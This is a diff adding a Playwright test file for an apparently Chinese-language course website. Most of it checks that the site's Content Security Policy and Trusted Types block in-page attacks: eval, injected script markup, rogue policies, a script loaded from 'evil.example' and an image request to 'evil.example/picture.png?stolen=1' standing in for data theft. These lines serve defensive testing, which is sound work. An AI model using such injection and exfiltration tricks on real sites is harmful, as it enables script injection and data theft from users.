@@ -1,0 +1,85 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from '../support/siteFixture.ts'
+import { mark, isMarked, open } from './open.ts'
+
+/** What a script could try that should not be there, and whether it came through. */
+const attempts = {
+  'markup as text': () => {
+    document.body.innerHTML = '<p>x</p>'
+    return true
+  },
+  // In a turn of its own: what a test asks directly, the browser lets it do.
+  'text as code': () =>
+    new Promise<boolean>((resolve) => {
+      setTimeout(() => {
+        try {
+          // oxlint-disable-next-line no-eval -- It is what must not work.
+          resolve((0, eval)('true') as boolean)
+        } catch {
+          resolve(false)
+        }
+      })
+    }),
+  'a script by a foreign address': () => {
+    document.createElement('script').src = 'https://evil.example/x.js'
+    return true
+  },
+  'a policy of its own': () => {
+    const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+    return Boolean(trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }))
+  },
+  'the policy of the start again': () => {
+    const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+    return Boolean(trustedTypes.createPolicy('zeyiji-rich', {})) && Boolean(trustedTypes.createPolicy('zeyiji-rich', {}))
+  },
+  'a script as markup': () => {
+    document.body.append(document.createRange().createContextualFragment('<script>window.broken = true</script>'))
+    return true
+  },
+}
+
+const succeeds = (page: Page, attempt: () => boolean | Promise<boolean>): Promise<boolean> => page.evaluate(attempt).catch(() => false)
+
+for (const who of ['a visitor', 'somebody signed in'] as const) {
+  test(`what a script tries on a page of ${who} comes to nothing`, async ({ page, signIn, faults }) => {
+    if (who === 'somebody signed in') await signIn()
+    faults.expect(/Trusted|Content.Security.Policy/i)
+    faults.expect(/request failed: GET https:\/\/evil\.example\/picture\.png\S* csp/)
+    await open(page, '/course/first-aid-cpr-aed')
+    for (const [what, attempt] of Object.entries(attempts)) expect(await succeeds(page, attempt), what).toBe(false)
+    const shown = page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          const picture = new Image()
+          picture.addEventListener('load', () => resolve('loaded'))
+          picture.addEventListener('error', () => resolve('refused'))
+          picture.src = 'https://evil.example/picture.png?stolen=1'
+        }),
+    )
+    expect(await shown).toBe('refused')
+    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  })
+}
+
+test('texts with markup of their own are shown on every way to them, and nothing is refused', async ({ page }) => {
+  await open(page, '/profession/welder')
+  await mark(page)
+  await expect(page.getByRole('region', { name: '职业介绍' }).locator('p').first()).toBeVisible()
+  await page.getByRole('banner').getByRole('link', { name: '课程' }).click()
+  await expect(page.getByRole('heading', { level: 1, name: '全部课程' })).toBeVisible()
+  await page.getByRole('main').getByRole('listitem').getByRole('heading', { level: 2 }).first().click()
+  await expect(page).toHaveURL(/\/course\/[\w-]+$/)
+  await expect(page.getByRole('region', { name: '课程介绍' }).locator('p').first()).toBeVisible()
+  await page.getByRole('contentinfo').getByRole('link', { name: '隐私政策' }).click()
+  await expect(page.getByRole('main').getByRole('heading', { level: 2 }).first()).toBeVisible()
+  expect(await isMarked(page), 'all of it in one document').toBe(true)
+})
+
+test('search engines read the facts of a page in its head', async ({ page }) => {
+  const facts = async () => JSON.parse((await page.locator('head script[type="application/ld+json"]').textContent()) ?? '') as object
+  await open(page, '/')
+  expect(await facts()).toHaveProperty('@context', 'https://schema.org')
+  await open(page, '/course/first-aid-cpr-aed')
+  expect(JSON.stringify(await facts())).toContain('Course')
+})
